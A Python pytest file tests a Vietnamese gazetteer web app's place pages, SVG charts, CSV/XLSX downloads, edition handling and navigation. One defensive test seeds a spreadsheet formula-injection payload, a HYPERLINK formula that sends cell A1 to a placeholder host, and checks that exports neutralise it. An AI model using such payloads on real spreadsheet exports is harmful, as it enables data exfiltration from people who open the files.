"""A place's figures for citizens: the chart over the years, the CSV and .xlsx downloads, and
the ways in from the gazetteer's home (search, look-up, indicators, places).

On the demo gazetteer (``tinhuy demo``, loaded for the session): Thành phố Vinh (412) has its
population 2019–2023 as sample data, edition 2025 revising 2023 from 346.000 (edition 2024) to
347.000; the province (40) has one cited year per indicator. Tests that need more publish an
edition of their own inside their transaction.

Everything here is public: the anonymous citizen reads every page and file; an unknown place or
edition answers 404 like any absent page.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from tinhuy.gazetteer.actions import ObservationSpec, do_publish_edition, do_save_observations
from tinhuy.gazetteer.figures import Cell, line_chart
from tinhuy.gazetteer.lookup import latest_edition
from tinhuy.gazetteer.models import Edition, Indicator, Place

SAMPLE = "số liệu minh họa"
VINH, PROVINCE = "412", "40"


@pytest.fixture
def year(db: None) -> int:
    edition = latest_edition()
    assert edition is not None
    return edition.year


def _place_page(year: int, code: str) -> str:
    response = Client().get(reverse("gazetteer_place", args=[year, code]))
    assert response.status_code == 200
    return response.content.decode()


def _csv_rows(year: int, code: str) -> tuple[bytes, list[dict[str, str]]]:
    response = Client().get(reverse("gazetteer_place_csv", args=[year, code]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    content = response.content
    return content, list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx_rows(year: int, code: str) -> list[dict[str, object]]:
    response = Client().get(reverse("gazetteer_place_xlsx", args=[year, code]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    header = [str(h) for h in rows[0]]
    return [dict(zip(header, row, strict=True)) for row in rows[1:]]


def _publish_next(user: Any = None) -> Edition:
    last = Edition.objects.order_by("-year").first()
    assert last is not None
    return do_publish_edition(last.year + 1, title="Ấn bản thử", acting_user=user)


# The chart -------------------------------------------------------------------------------------


def test_a_place_page_draws_its_figures_over_the_years(year):
    """Vinh's population 2019–2023: one SVG line, a point per year, sample points hollow and
    the legend saying "số liệu minh họa"; the numbers read as Vietnamese write them."""
    response = Client().get(reverse("gazetteer_place", args=[year, VINH]))
    html = response.content.decode()
    group = next(g for g in response.context["figures"] if g.name == "Dân số")
    chart = group.chart
    assert chart is not None
    assert [p.year for p in chart.points] == [2019, 2020, 2021, 2022, 2023]
    assert all(p.is_sample for p in chart.points)
    assert html.count('<svg class="gz-chart-svg"') == 1
    svg = html[html.index("<svg") : html.index("</svg>")]
    assert svg.count("<circle") == 5 + 1  # the points and the legend's
    assert 'fill="#fff"' in svg and SAMPLE in svg
    assert "2023: 347.000 người (số liệu minh họa)" in svg
    assert "<script" not in html  # drawn by the server: no script


def test_a_chart_is_higher_where_the_figure_is_higher():
    cells = [
        Cell(2019, Decimal("100"), "100", "", "", False),
        Cell(2021, Decimal("300"), "300", "", "", True),
        Cell(2020, Decimal("200"), "200", "", "", False),
    ]
    chart = line_chart(cells)
    assert chart is not None
    years = [p.year for p in chart.points]
    ys = [p.y for p in chart.points]
    xs = [p.x for p in chart.points]
    assert years == [2019, 2020, 2021]  # in order of the years
    assert ys[0] > ys[1] > ys[2]  # SVG's y grows downwards
    assert xs[0] < xs[1] < xs[2]
    assert all(0 <= x <= chart.width for x in xs) and all(0 <= y <= chart.height for y in ys)
    assert chart.has_sample
    labels = [t.label for t in chart.y_ticks]
    assert labels[0] == "100" and labels[-1] == "300"


def test_a_flat_series_and_a_single_year():
    flat = [Cell(y, Decimal("5.5"), "5,5", "", "", False) for y in (2019, 2020)]
    chart = line_chart(flat)
    assert chart is not None and chart.points[0].y == chart.points[1].y
    assert "5,5" not in [t.label for t in chart.y_ticks[:1]]  # a band around the line
    assert line_chart(flat[:1]) is None
    assert line_chart([]) is None


def test_a_place_with_one_year_per_figure_shows_the_table_without_a_chart(year):
    html = _place_page(year, PROVINCE)
    assert "<svg" not in html
    assert "3.327.791" in html


# Downloads -------------------------------------------------------------------------------------


def test_the_place_page_links_its_downloads(year):
    html = _place_page(year, VINH)
    assert reverse("gazetteer_place_csv", args=[year, VINH]) in html
    assert reverse("gazetteer_place_xlsx", args=[year, VINH]) in html


def test_the_csv_is_utf8_with_a_bom_and_says_which_figures_are_sample(year):
    content, rows = _csv_rows(year, VINH)
    assert content.startswith("\ufeff".encode())
    assert "Thành phố Vinh".encode() in content
    vinh = [r for r in rows if r["indicator_code"] == "dan-so"]
    assert [(r["year"], r["value"]) for r in vinh] == [
        ("2019", "340000"),
        ("2020", "342000"),
        ("2021", "343000"),
        ("2022", "345000"),
        ("2023", "347000"),
    ]
    assert {r["is_sample"] for r in vinh} == {SAMPLE}
    # The province's cited figures are not labelled.
    _content, province = _csv_rows(year, PROVINCE)
    assert province and {r["is_sample"] for r in province} == {""}


def test_the_xlsx_holds_the_same_figures_as_numbers_with_the_sample_label(year):
    rows = _xlsx_rows(year, VINH)
    _content, csv_rows = _csv_rows(year, VINH)
    assert [(r["indicator_code"], r["year"]) for r in rows] == [
        (r["indicator_code"], int(r["year"])) for r in csv_rows
    ]
    by_year = {r["year"]: r for r in rows if r["indicator_code"] == "dan-so"}
    assert by_year[2023]["value"] == 347000
    assert by_year[2023]["is_sample"] == SAMPLE
    assert by_year[2023]["place_name"] == "Thành phố Vinh"


def test_a_download_imports_back_as_sample_figures(year, personas):
    """The label in the is_sample column is one the yearly import reads as sample data: a
    corrected download imports back, its figures still sample."""
    from tinhuy.gazetteer.imports.figures import import_observations
    from tinhuy.gazetteer.models import Observation

    content, _rows = _csv_rows(year, VINH)
    corrected = content.replace(b",2019,340000,", b",2019,340001,")
    assert corrected != content
    result = import_observations(corrected, "vinh.csv", acting_user=personas.editor)
    assert (result.errors, result.revised) == ([], 1)
    figure = Observation.objects.get(indicator__code="dan-so", place__code=VINH, year=2019)
    assert (figure.value, figure.is_sample) == (Decimal("340001"), True)


def test_text_that_a_spreadsheet_would_run_is_neutralised(year, personas):
    """A source or note beginning with "=", "@"… is written with an apostrophe in both files,
    and shown as plain text on the page."""
    vinh = Place.objects.get(code=VINH)
    population = Indicator.objects.get(code="dan-so")
    do_save_observations(
        [
            ObservationSpec(
                population,
                vinh,
                2024,
                Decimal("350000"),
                source='=HYPERLINK("http://example.invalid/?"&A1,"Niên giám")',
                note="@SUM(1+1)",
            )
        ],
        acting_user=personas.editor,
    )
    edition = _publish_next(personas.editor)
    _content, rows = _csv_rows(edition.year, VINH)
    row = next(r for r in rows if r["year"] == "2024")
    assert row["source"].startswith("'=HYPERLINK(")
    assert row["note"] == "'@SUM(1+1)"
    assert row["is_sample"] == ""
    xlsx = next(r for r in _xlsx_rows(edition.year, VINH) if r["year"] == 2024)
    assert str(xlsx["source"]).startswith("'=HYPERLINK(")
    assert xlsx["note"] == "'@SUM(1+1)"
    html = _place_page(edition.year, VINH)
    assert "=HYPERLINK(&quot;http://example.invalid/?&quot;&amp;A1" in html
    assert "350.000" in html


def test_a_figure_not_yet_published_is_never_shown(year, personas):
    """The working figures reach the public with the next edition only: not on the page, in the
    chart or in either file before."""
    vinh = Place.objects.get(code=VINH)
    population = Indicator.objects.get(code="dan-so")
    do_save_observations(
        [ObservationSpec(population, vinh, 2024, Decimal("999999"), is_sample=True)],
        acting_user=personas.editor,
    )
    html = _place_page(year, VINH)
    assert "999.999" not in html and ">2024<" not in html
    _content, rows = _csv_rows(year, VINH)
    assert "2024" not in {r["year"] for r in rows}
    assert 2024 not in {r["year"] for r in _xlsx_rows(year, VINH)}


def test_a_revised_figure_shows_in_its_edition_only(year):
    """Edition 2024 said 346.000 for Vinh's 2023 population, edition 2025 revised it."""
    older = Edition.objects.filter(year__lt=year).order_by("-year").first()
    assert older is not None
    assert "346.000" in _place_page(older.year, VINH)
    assert "346.000" not in _place_page(year, VINH)
    _content, rows = _csv_rows(older.year, VINH)
    assert ("2023", "346000") in {(r["year"], r["value"]) for r in rows}


@pytest.mark.parametrize("name", ["gazetteer_place", "gazetteer_place_csv", "gazetteer_place_xlsx"])
def test_an_unknown_place_or_edition_is_404_like_any_absent_page(year, name):
    client = Client()
    assert client.get(reverse(name, args=[year, "99999"])).status_code == 404
    assert client.get(reverse(name, args=[1900, VINH])).status_code == 404
    assert client.get(reverse(name, args=[year, "x" * 300])).status_code == 404


def test_a_place_page_runs_a_handful_of_queries(year, django_assert_max_num_queries):
    with django_assert_max_num_queries(6):
        _place_page(year, VINH)


# The ways in -----------------------------------------------------------------------------------


def test_the_home_page_leads_to_search_look_up_indicators_and_places(year):
    response = Client().get(reverse("gazetteer_home"))
    html = response.content.decode()
    for section in ("gz-way-search", "gz-way-lookup", "gz-way-indicators", "gz-way-places"):
        assert f'id="{section}"' in html
    assert f'action="{reverse("gazetteer_search")}"' in html
    assert f'action="{reverse("gazetteer_lookup")}"' in html
    assert reverse("gazetteer_indicators", args=[year]) in html
    assert reverse("gazetteer_indicator", args=[year, "dan-so"]) in html
    assert reverse("gazetteer_places", args=[year]) in html
    assert reverse("gazetteer_place", args=[year, VINH]) in html


def test_the_home_page_runs_a_handful_of_queries(year, django_assert_max_num_queries):
    with django_assert_max_num_queries(8):
        assert Client().get(reverse("gazetteer_home")).status_code == 200


def test_the_places_page_lists_every_level_and_marks_those_with_figures(year):
    response = Client().get(reverse("gazetteer_places", args=[year]))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Tỉnh Nghệ An" in html and "Huyện Nghi Lộc" in html and "Xã Nghi Lộc" in html
    levels = [g.level for g in response.context["groups"]]
    assert levels == ["province", "district", "commune"]
    with_figures = {p.code for p in response.context["with_figures"]}
    assert {PROVINCE, VINH} <= with_figures
    assert 'id="gz-places-figures"' in html


def test_the_places_page_narrows_by_name_with_or_without_marks(year):
    for typed in ("nghi loc", "Nghi Lộc", "NGHI LOC"):
        response = Client().get(reverse("gazetteer_places", args=[year]), {"ten": typed})
        names = {p.full_name for g in response.context["groups"] for p in g.places}
        assert names == {"Huyện Nghi Lộc", "Xã Nghi Lộc"}, typed
    response = Client().get(reverse("gazetteer_places", args=[year]), {"ten": "Hà Nội"})
    assert "Không có địa danh nào có tên chứa “Hà Nội”" in response.content.decode()


def test_the_places_page_of_an_unknown_edition_is_404_and_the_latest_redirects(year):
    client = Client()
    assert client.get(reverse("gazetteer_places", args=[1900])).status_code == 404
    response = client.get(reverse("gazetteer_places_latest"))
    assert response.status_code == 302
    assert response["Location"] == reverse("gazetteer_places", args=[year])


def test_the_places_page_runs_a_handful_of_queries(year, django_assert_max_num_queries):
    with django_assert_max_num_queries(4):
        Client().get(reverse("gazetteer_places", args=[year]))
